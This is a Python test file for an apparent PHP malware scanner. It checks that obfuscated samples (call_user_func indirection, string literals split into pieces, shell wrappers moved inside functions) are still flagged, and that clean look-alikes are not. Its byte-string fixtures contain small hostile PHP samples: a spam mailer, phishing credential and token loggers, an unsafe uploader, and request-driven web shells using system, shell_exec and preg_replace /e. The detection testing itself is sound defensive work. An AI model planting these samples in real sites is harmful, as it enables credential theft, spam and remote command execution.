"""The rewrites between variants of one family (bench/scan_variants.py) are read through: a
built-in called by call_user_func(), a literal cut anywhere into pieces, the request body's
name glued from pieces. Each sample was clean before (the rewrite hid what its original
does); each clean look-alike, written the same way, stays clean. Samples written for these
tests, never run."""

from __future__ import annotations

import pytest
from scanner_helpers import analyze_bytes, rule_ids

from spamtrace.scanner.fold import Env, fold_at, normalized
from spamtrace.scanner.lexer import lex

# ------------------------------------------------------------------ call_user_func()
CALLED_BY_NAME = [
    # a bulk mailer: the message decoded, each posted recipient mailed
    b"<?php\n$to = $_POST['to']; $body = call_user_func('base64_decode', $_POST['m']);\n"
    b"foreach (explode(',', $to) as $rcpt) { call_user_func('mail', $rcpt, $_POST['s'], "
    b"$body, 'From: ' . $_POST['f']); }\necho 'sent';\n",
    # a phishing kit's results log
    b"<?php\n$line = 'Email: ' . $_POST['email'] . ' Password: ' . $_POST['password'] . \"\\n\";"
    b"\ncall_user_func('file_put_contents', 'results.txt', $line, FILE_APPEND);\n"
    b"header('Location: https://www.example.com/');\n",
    # an uploader that keeps the client's name
    b"<?php\nif (!empty($_FILES['f'])) { call_user_func('move_uploaded_file', "
    b"$_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; }\n",
]


@pytest.mark.parametrize("sample", CALLED_BY_NAME)
def test_a_builtin_called_by_call_user_func_is_read_as_its_call(sample: bytes) -> None:
    assert analyze_bytes(sample).verdict.value == "malicious", sample


def test_call_user_func_of_a_decoded_name_runs_the_shell() -> None:
    sample = (
        b"<?php\n$r = call_user_func(strrev('cexe_llehs'), $_REQUEST['c']);\n"
        b'echo "<pre>$r</pre>";\n'
    )
    assert "shell.exec-request-input" in rule_ids(analyze_bytes(sample))


def test_the_view_writes_call_user_func_as_the_call() -> None:
    code = (
        b"<?php $f = 'sys' . 'tem'; call_user_func('base64_decode', $x);\n"
        b"call_user_func(strrev('metsys'), $y); call_user_func($f, $z); call_user_func('phpinfo');"
        b"\n$o->call_user_func('x', 1); call_user_func($_GET['a'], 1); call_user_func($g, 2);"
    )
    view = normalized(lex(code))
    assert view is not None
    text = view.code
    assert b"base64_decode($x)" in text and b"system($y)" in text
    assert b"system($z)" in text and b"phpinfo()" in text
    # a method, a name the folder cannot read, a variable it cannot follow: as written
    assert b"$o->call_user_func(" in text and b"call_user_func($_get[" in text
    assert b"call_user_func($g, 2)" in text
    assert text.count(b"\n") == lex(code).code.count(b"\n")


def test_the_folder_reads_call_user_func_of_a_folding_function() -> None:
    code = (
        b"<?php $a = call_user_func('strtr', 'abatme', 'me', 'em'); "
        b"$b = call_user_func('strtr', $a, 'ab', 'sy'); x($b);"
    )
    lx = lex(code)
    got = fold_at(lx.code, lx, lx.code.find(b"x(") + 2, Env(lx.code, lx))
    assert got is not None and got.value == b"system"


def test_a_name_built_by_call_user_func_then_called_is_found() -> None:
    sample = (
        b"<?php\n$n = call_user_func('strtr', 'abatme', 'me', 'em');\n"
        b"$run = call_user_func('strtr', $n, 'ab', 'sy');\n"
        b"$run('echo ' . 'aGVsbG8=' . ' | base64 -d > ./out.php');\n"
    )
    assert "php.folded-name-called" in rule_ids(analyze_bytes(sample))


def test_the_request_body_written_out_is_no_named_argument() -> None:
    """``f(php://input)`` (the request body's literal written out, also by the view of a
    call_user_func() of the reader) is no PHP 8 named argument ``php:``."""
    sample = (
        b"<?php\n$data = call_user_func('json_decode', call_user_func('file_get_contents', "
        b"'php://input'), true);\n"
        b"$log = 'Token: ' . $data['token'] . ' Pass: ' . $data['pass'] . \"\\n\";\n"
        b"call_user_func('file_put_contents', 'tokens.txt', $log, FILE_APPEND);\n"
    )
    assert analyze_bytes(sample).verdict.value == "malicious"


CLEAN_CALLED_BY_NAME = [
    b"<?php\n$name = call_user_func('strtoupper', $_POST['name'] ?? '');\n"
    b"echo htmlspecialchars($name);\n",
    b"<?php\nfunction run_hooks($hooks, $args) { foreach ($hooks as $h) { "
    b"call_user_func($h, $args); } }\n$hooks = array('log_request', 'count_request');\n"
    b"run_hooks($hooks, $_POST);\n",
    # a contact form mailed to the site's own fixed address
    b"<?php\n$body = \"Name: \" . $_POST['name'] . \"\\nMessage: \" . $_POST['message'];\n"
    b"call_user_func('mail', 'owner@example.com', 'Contact form', $body);\necho 'Thanks';\n",
]


@pytest.mark.parametrize("sample", CLEAN_CALLED_BY_NAME)
def test_clean_call_user_func_stays_clean(sample: bytes) -> None:
    assert analyze_bytes(sample).verdict.value == "clean", sample


# ------------------------------------------------------------------ literals cut anywhere
CUT_ANYWHERE = [
    # the request body's name glued from pieces, the fields logged
    b"<?php\n$d = json_decode(file_get_contents('php://i' . 'nput'), true);\n"
    b'$log = "Email: " . $d[\'email\'] . " | Pass: " . $d[\'pass\'] . "\\n";\n'
    b"file_put_contents('log' . '.txt', $log, FILE_APPEND);\n",
    # a regex with the /e option cut off from its delimiter
    b"<?php\npreg_replace('/.*/' . 'e', $_POST['c'], '');\n",
]


@pytest.mark.parametrize("sample", CUT_ANYWHERE)
def test_literals_cut_off_from_a_word_are_read_glued(sample: bytes) -> None:
    assert analyze_bytes(sample).verdict.value == "malicious", sample


def test_clean_glued_text_stays_clean() -> None:
    sample = (
        b'<?php\n$sql = "SELECT id, name " . "FROM users " . "WHERE active = 1";\n'
        b"$msg = 'Hello, ' . 'world' . '!';\n$path = '/var/www/' . 'html/' . 'index.php';\n"
        b"echo $msg . ' ' . 'php://' . 'memory', $path;\n"
        b"$raw = file_get_contents('php://' . 'input');\n$data = json_decode($raw, true);\n"
        b"echo isset($data['id']) ? (int) $data['id'] : 0;\n"
    )
    assert analyze_bytes(sample).verdict.value == "clean"


# ------------------------------------------------------------------ the script in a function
_RUNNER = (
    b"<?php\nfunction ekse($c) {\n    if (function_exists('system')) { @ob_start(); "
    b"@system($c); $b = @ob_get_contents(); @ob_end_clean(); return $b; }\n}\n"
)


def test_a_register_globals_shell_moved_into_a_function_is_followed() -> None:
    """``global $cmd`` in the function the script runs in names the top-level ``$cmd``,
    which the script never sets (register_globals fills it from ``?cmd=``)."""
    sample = _RUNNER + (
        b"function page() { global $cmd, $out;\n"
        b"    if (isset($_GET['cmd']) && $_GET['cmd'] != '') { $out = ekse($cmd); echo $out; }\n"
        b"}\npage();\n"
    )
    assert "shell.exec-wrapper-followed" in rule_ids(analyze_bytes(sample))


@pytest.mark.parametrize(
    "setting",
    [
        b"$cmd = 'uptime';\n",
        b"function init() { global $cmd; $cmd = 'uptime'; }\ninit();\n",
    ],
)
def test_a_global_the_script_sets_is_not_register_globals_input(setting: bytes) -> None:
    sample = (
        _RUNNER
        + setting
        + (
            b"function page() { global $cmd;\n"
            b"    if (isset($_GET['cmd'])) { echo htmlspecialchars(ekse($cmd)); }\n}\npage();\n"
        )
    )
    assert "shell.exec-wrapper-followed" not in rule_ids(analyze_bytes(sample))
